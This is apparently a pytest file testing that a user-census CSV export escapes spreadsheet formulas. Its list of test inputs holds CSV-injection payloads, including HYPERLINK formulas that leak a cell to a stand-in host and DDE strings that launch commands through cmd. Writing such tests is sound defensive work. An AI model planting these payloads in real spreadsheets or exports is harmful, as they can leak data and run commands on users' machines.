"""CSV exports neutralize spreadsheet formulas (OWASP, "CSV Injection")."""

from __future__ import annotations

import csv
import io

import pytest

from zdlib.runbook.census import UserCensus, csv_cell

EVIL = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    ' =HYPERLINK("https://evil.example/?"&A1,"Alan")',  # attack review 2026-12-02: a leading space
]


@pytest.mark.parametrize("name", EVIL)
def test_a_formula_in_a_user_name_is_written_as_text(name: str) -> None:
    stream = io.StringIO()
    census = UserCensus(csv_stream=stream)
    census.add({"id": 1, "name": name, "email": "x@example.com", "role": "end-user", "verified": True})
    row = next(csv.DictReader(io.StringIO(stream.getvalue())))
    assert row["name"] == "'" + name
    assert row["id"] == "1" and row["email"] == "x@example.com"
    assert census.sample[0]["name"] == name  # only the export is changed, not what the run counts


def test_plain_values_pass_unchanged() -> None:
    assert [csv_cell(v) for v in ("Ada Admin", "a=b", 12, None, True, "")] == [
        "Ada Admin",
        "a=b",
        12,
        None,
        True,
        "",
    ]
